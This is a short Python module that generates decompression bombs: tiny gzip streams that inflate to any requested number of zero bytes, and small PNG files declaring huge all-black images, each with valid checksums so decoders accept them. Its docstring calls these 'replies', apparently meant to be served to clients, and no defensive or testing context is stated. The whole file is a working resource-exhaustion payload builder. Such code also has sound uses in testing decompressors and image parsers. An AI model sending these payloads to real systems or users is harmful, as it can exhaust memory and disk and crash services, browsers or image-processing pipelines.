"""Decompression bombs: valid small replies that expand to enormous ones, built in little memory."""

import functools
import struct
import zlib

BLOCK = bytes(1_000_000)
RAW_DEFLATE = -15
BITS_PER_BYTE = 8


@functools.lru_cache(maxsize=4)
def gzip_of_zeros(count: int) -> bytes:
    """Return a gzip stream (RFC 1952) that expands to `count` zero bytes, about a thousandfold."""
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    trailer = struct.pack("<II", _crc_of_zeros(count), count % 2**32)
    return header + _deflated_zeros(count) + trailer


@functools.lru_cache(maxsize=4)
def png_of_pixels(width: int, height: int) -> bytes:
    """Return a valid black-and-white png, all black, of `width` by `height` pixels."""
    row = 1 + (width + BITS_PER_BYTE - 1) // BITS_PER_BYTE
    return b"".join(
        (
            b"\x89PNG\r\n\x1a\n",
            _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)),
            _chunk(b"IDAT", _zlib_of_zeros(row * height)),
            _chunk(b"IEND", b""),
        )
    )


def _deflated_zeros(count: int) -> bytes:
    """Deflate one block and repeat it: after a full flush, each is independent."""
    blocks, rest = divmod(count, len(BLOCK))
    first = zlib.compressobj(9, zlib.DEFLATED, RAW_DEFLATE)
    block = first.compress(BLOCK) + first.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, RAW_DEFLATE)
    return block * blocks + last.compress(BLOCK[:rest]) + last.flush()


def _zlib_of_zeros(count: int) -> bytes:
    adler = (count % 65521) << 16 | 1  # of zeros: the first sum stays 1, the second counts them
    return b"\x78\xda" + _deflated_zeros(count) + struct.pack(">I", adler)


def _crc_of_zeros(count: int) -> int:
    blocks, rest = divmod(count, len(BLOCK))
    crc = 0
    for _ in range(blocks):
        crc = zlib.crc32(BLOCK, crc)
    return zlib.crc32(BLOCK[:rest], crc)


def _chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)
